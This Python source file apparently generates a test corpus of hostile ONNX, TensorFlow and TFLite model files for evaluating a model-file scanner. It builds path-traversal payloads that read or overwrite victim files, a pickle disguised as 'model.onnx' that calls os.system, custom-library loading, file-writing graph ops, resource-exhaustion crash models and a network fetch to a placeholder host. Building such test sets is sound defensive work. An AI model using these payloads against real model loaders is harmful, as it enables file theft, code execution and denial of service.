"""The third blind set: ONNX and TensorFlow."""

# ruff: noqa: E501  (payloads stand on one line)

from __future__ import annotations

import struct
from collections.abc import Iterator

from corpora.unseen3_base import COMMANDS, HOST, SECRET, VICTIM, Sample, as_json, call, dumps, proto
from corpora.unseen3_data import data, names

EVIL = call("os:system", COMMANDS[0])
Files = dict[str, bytes]
Row = tuple[str, Files, str, str]


# --- ONNX ----------------------------------------------------------------------------------------------------------


def onnx_tensor(name: str, dims: tuple[int, ...], kind: int, raw: bytes) -> bytes:
    return proto(*((1, one) for one in dims), (2, kind), (8, name), (9, raw))


def onnx_value(name: str, kind: int = 1, scalar: bool = False) -> bytes:
    return proto((1, name), (2, proto((1, proto((1, kind), *([(2, b"")] if scalar else []))))))


def onnx_node(op: str, inputs: list[str], outputs: list[str], *attributes: bytes, domain: str = "") -> bytes:
    parts: list[tuple[int, object]] = [*((1, one) for one in inputs), *((2, one) for one in outputs)]
    return proto(*parts, (4, op), *((5, one) for one in attributes), *([(7, domain)] if domain else []))


def onnx_graph(nodes: list[bytes], weights: list[bytes], inputs: list[bytes], outputs: list[bytes]) -> bytes:
    return proto(
        *((1, n) for n in nodes),
        (2, "g"),
        *((5, w) for w in weights),
        *((11, i) for i in inputs),
        *((12, o) for o in outputs),
    )


def onnx(graph: bytes, *more: tuple[int, object], domains: tuple[str, ...] = ("",)) -> bytes:
    sets = [(8, proto(*([(1, one)] if one else []), (2, 1 if one else 17))) for one in domains]
    return proto((1, 8), (2, "pytorch"), (7, graph), *sets, *more)


def _external(location: str, *more: tuple[str, str], dims: tuple[int, ...] = (6,)) -> bytes:
    entries = [(13, proto((1, k), (2, v))) for k, v in (("location", location), *more)]
    weight = proto(*((1, one) for one in dims), (2, 2), (8, "w"), *entries, (14, 1))
    return onnx(onnx_graph([onnx_node("Identity", ["w"], ["y"])], [weight], [], [onnx_value("y", 2)]))


def _onnx() -> Iterator[tuple[str, Files, str, str, str]]:
    load, ort = "import onnx; onnx.load(f)", "import onnxruntime as o; o.InferenceSession(f).run(None, {})"
    yield "external-up", {"model.onnx": _external("../victim/secret.txt", ("length", "6"))}, load, "file", "onnx15+main"
    yield "external-absolute", {"model.onnx": _external(SECRET)}, load, "file", "onnx15+main"
    yield (
        "external-dots",
        {"net/model.onnx": _external("./.././../victim/secret.txt", ("offset", "1"), ("length", "5"))},
        load,
        "file",
        "onnx15+main",
    )
    yield "external-runtime", {"model.onnx": _external("../victim/secret.txt", ("length", "6"))}, ort, "file", "main"
    save = "import onnx; m = onnx.load(f, load_external_data=False); onnx.external_data_helper.write_external_data_tensors(m, '/tmp/s')"
    weight = proto(
        (1, 6), (2, 2), (8, "w"), (9, b"pwned!"), (13, proto((1, "location"), (2, "../victim/keep.txt"))), (14, 1)
    )
    yield (
        "external-written",
        {"model.onnx": onnx(onnx_graph([onnx_node("Identity", ["w"], ["y"])], [weight], [], [onnx_value("y", 2)]))},
        save,
        "file",
        "onnx15+main",
    )
    library = "import onnxruntime as o; s = o.SessionOptions(); s.register_custom_ops_library('/tmp/s/custom_ops.so'); o.InferenceSession(f, s)"
    custom = onnx(
        onnx_graph([onnx_node("Run", [], ["y"], domain="com.acme")], [], [], [onnx_value("y")]),
        domains=("", "com.acme"),
    )
    yield "custom-library", {"model.onnx": custom, "custom_ops.so": data("lib.so")}, library, "code", "main"
    true, many = onnx_tensor("c", (), 9, b"\1"), onnx_tensor("n", (), 7, struct.pack("<q", 2**62))
    body = onnx_graph(
        [onnx_node("Identity", ["ci"], ["co"]), onnx_node("Identity", ["a"], ["b"])],
        [],
        [onnx_value("i", 7, True), onnx_value("ci", 9, True), onnx_value("a", 9, True)],
        [onnx_value("co", 9, True), onnx_value("b", 9, True)],
    )
    loop = onnx_node("Loop", ["n", "c", "c"], ["y"], proto((1, "body"), (6, body), (20, 5)))
    yield "loop", {"model.onnx": onnx(onnx_graph([loop], [true, many], [], [onnx_value("y", 9)]))}, ort, "crash", "main"
    huge = onnx_tensor("s", (1,), 7, struct.pack("<q", 2**33))
    fill = onnx_node("ConstantOfShape", ["s"], ["y"])
    yield "fill", {"model.onnx": onnx(onnx_graph([fill], [huge], [], [onnx_value("y")]))}, ort, "crash", "main"
    text = proto((1, 1), (2, 8), (6, b"a" * 64), (8, "t"))
    doubles = [onnx_node("StringConcat", [f"t{i}" if i else "t"] * 2, [f"t{i + 1}"]) for i in range(32)]
    doubled = onnx_graph(doubles, [text], [], [onnx_value("t32", 8)])
    yield "text-doubled", {"model.onnx": proto((1, 9), (7, doubled), (8, proto((2, 20))))}, ort, "crash", "main"
    functions = []
    for level in range(12):
        inner = onnx_node("Identity", ["a"], ["b"]) if level == 0 else b""
        calls = [
            onnx_node(f"F{level - 1}", ["a" if i == 0 else f"v{i}"], ["b" if i == 9 else f"v{i + 1}"], domain="d")
            for i in range(10)
        ]
        nodes = [inner] if level == 0 else calls
        functions.append(
            (
                25,
                proto(
                    (1, f"F{level}"),
                    (4, "a"),
                    (5, "b"),
                    *((7, n) for n in nodes),
                    (9, proto((2, 17))),
                    (9, proto((1, "d"), (2, 1))),
                    (10, "d"),
                ),
            )
        )
    graph = onnx_graph([onnx_node("F11", ["c"], ["y"], domain="d")], [true], [], [onnx_value("y", 9)])
    yield "functions-expanded", {"model.onnx": onnx(graph, *functions, domains=("", "d"))}, ort, "crash", "main"
    deep = onnx_graph([onnx_node("Identity", ["c"], ["y"])], [], [], [onnx_value("y", 9)])
    for _ in range(4000):
        deep = onnx_graph(
            [onnx_node("If", ["c"], ["y"], proto((1, "then_branch"), (6, deep), (20, 5)))], [], [], [onnx_value("y", 9)]
        )
    yield (
        "pickle-named-onnx",
        {"model.onnx": dumps(EVIL, 2)},
        "import pickle; pickle.load(open(f, 'rb'))",
        "code",
        "main",
    )
    yield (
        "resize",
        {
            "model.onnx": onnx(
                onnx_graph([onnx_node("Expand", ["c", "s"], ["y"])], [true, huge], [], [onnx_value("y", 9)])
            )
        },
        ort,
        "crash",
        "main",
    )


# --- TensorFlow ------------------------------------------------------------------------------------------------------


def tf_const(name: str, value: str | list[str], kind: int = 7) -> bytes:
    values = [value] if isinstance(value, str) else value
    shape = b"" if isinstance(value, str) else proto((2, proto((1, len(values)))))
    tensor = proto((1, kind), (2, shape), *((8, one) for one in values))
    return tf_node(name, "Const", [], ("dtype", proto((6, kind))), ("value", proto((8, tensor))))


def tf_node(name: str, op: str, inputs: list[str], *attributes: tuple[str, bytes]) -> bytes:
    return proto(
        (1, name), (2, op), *((3, one) for one in inputs), *((5, proto((1, k), (2, v))) for k, v in attributes)
    )


def _frozen() -> Iterator[tuple[str, bytes, str]]:
    def graph(*nodes: bytes) -> bytes:
        return proto(*((1, one) for one in nodes), (4, proto((1, 1645))))

    string, kind = proto((6, 7)), ("T", proto((6, 7)))
    path, text = tf_const("p", VICTIM), tf_const("c", "pwned")
    yield "write-file", graph(path, text, tf_node("out", "WriteFile", ["p", "c"])), "file"
    done = tf_node("out", "Identity", ["c", "^w"], kind)
    yield "write-by-control-edge", graph(path, text, tf_node("w", "WriteFile", ["p", "c"]), done), "file"
    yield "read-file", graph(tf_const("p", SECRET), tf_node("out", "ReadFile", ["p"])), "file"
    yield (
        "print",
        graph(
            text,
            tf_node("out", "PrintV2", ["c"], ("output_stream", proto((2, "file:///tmp/x"))), ("end", proto((2, "\n")))),
        ),
        "file",
    )
    names_, slices = tf_const("n", ["a"]), tf_const("s", [""])
    types = ("dtypes", proto((1, proto((6, bytes([7]))))))
    yield (
        "save",
        graph(tf_const("p", "/tmp/x"), names_, slices, text, tf_node("out", "SaveV2", ["p", "n", "s", "c"], types)),
        "file",
    )
    table = tf_node(
        "t",
        "HashTableV2",
        [],
        ("key_dtype", string),
        ("value_dtype", proto((6, 9))),
        ("container", proto((2, ""))),
        ("shared_name", proto((2, ""))),
        ("use_node_name_sharing", proto((5, 1))),
    )
    init = tf_node(
        "out",
        "InitializeTableFromTextFileV2",
        ["t", "p"],
        ("key_index", proto((3, -2))),
        ("value_index", proto((3, -1))),
        ("vocab_size", proto((3, -1))),
        ("delimiter", proto((2, "\t"))),
    )
    yield "table-from-file", graph(tf_const("p", SECRET), table, init), "file"
    writer = tf_node("t", "SummaryWriter", [], ("shared_name", proto((2, "w"))), ("container", proto((2, ""))))
    number = tf_node("q", "Const", [], ("dtype", proto((6, 3))), ("value", proto((8, proto((1, 3), (7, 10))))))
    made = tf_node("out", "CreateSummaryFileWriter", ["t", "p", "q", "q", "e"])
    yield (
        "summary-writer",
        graph(tf_const("p", "/tmp/victim/logs"), tf_const("e", ".txt"), writer, number, made),
        "file",
    )
    debug = tf_node(
        "out",
        "DebugIdentity",
        ["c"],
        kind,
        ("debug_urls", proto((1, proto((2, "file:///tmp/victim/dump"))))),
        ("tensor_name", proto((2, "c:0"))),
    )
    yield "debug-dump", graph(text, debug), "file"
    merge = tf_node("m", "Enter", ["c"], kind, ("frame_name", proto((2, "f"))))
    again = tf_node("l", "Merge", ["m", "k"], kind, ("N", proto((3, 2))))
    endless = [
        text,
        merge,
        again,
        tf_node("k", "NextIteration", ["l"], kind),
        tf_node("x", "Exit", ["l"], kind),
        tf_node("out", "Identity", ["x"], kind),
    ]
    yield "loop", graph(*endless), "crash"


def _tensorflow() -> Iterator[Row]:
    def folder(kind: str) -> Files:
        return {f"sm/{one[len('saved/' + kind) + 1 :]}": data(one) for one in names(f"saved/{kind}/")}

    load = "import tensorflow as tf; m = tf.saved_model.load('/tmp/s/sm')"
    yield "write-at-load", folder("AtLoad"), load, "file"
    yield "copy-at-load", folder("ReadAtLoad"), load, "file"
    yield "loop-at-load", folder("LoopAtLoad"), load, "crash"
    model = folder("Model")
    yield "write-in-call", model, load + "; m([1.0])", "file"
    yield "read-in-function", {**model, "sm/assets/vocab.txt": b"a\n"}, load + "; m.leak()", "file"
    yield "print-in-function", {**model, "sm/assets.extra/readme": b"x"}, load + "; m.printing()", "file"
    yield (
        "renamed",
        {"export/1" + k[2:]: v for k, v in folder("AtLoad").items()},
        load.replace("sm'", "export/1'"),
        "file",
    )


# --- PyTorch programs --------------------------------------------------------------------------------------------------


# --- Arrow -----------------------------------------------------------------------------------------------------------


def samples() -> Iterator[Sample]:
    for name, files, loader, effect, env in _onnx():
        yield Sample(f"onnx/{name}", files, loader, effect, env)
    load = "import tensorflow as tf; g = tf.compat.v1.GraphDef(); g.ParseFromString(open(f, 'rb').read()); w = tf.compat.v1.wrap_function(lambda: tf.import_graph_def(g, name=''), []); "
    for name, raw, effect in _frozen():
        run = "s = tf.compat.v1.Session(graph=w.graph); s.run('out')"
        yield Sample(f"frozen-graph/{name}", {"frozen_inference_graph.pb": raw}, load + run, effect, "tf")
    for name, files, loader, effect in _tensorflow():
        yield Sample(f"saved-model/{name}", files, loader, effect, "tf", "")
    lookup = {"driver": "zarr", "kvstore": {"driver": "http", "base_url": f"http://{HOST}/"}, "path": "a/"}
    yield Sample(
        "flax/tensorstore",
        {"ckpt.json": as_json(lookup)},
        "import json, tensorstore as t; t.open(json.load(open(f))).result()",
        "network",
    )
    run = "import tensorflow as tf; i = tf.lite.Interpreter(f); i.allocate_tensors(); i.invoke()"
    for name in ("write", "overwrite", "read", "match", "printing"):
        yield Sample(f"tflite/flex-{name}", {"model.tflite": data(f"tflite/{name}.tflite")}, run, "file", "tf215")
    for name in ("endless", "wide"):
        yield Sample(f"tflite/{name}", {"model.tflite": data(f"tflite/{name}.tflite")}, run, "crash", "tf215")
    renamed = {"detect.bin": data("tflite/write.tflite")}
    yield Sample("tflite/flex-renamed", renamed, run, "file", "tf215")
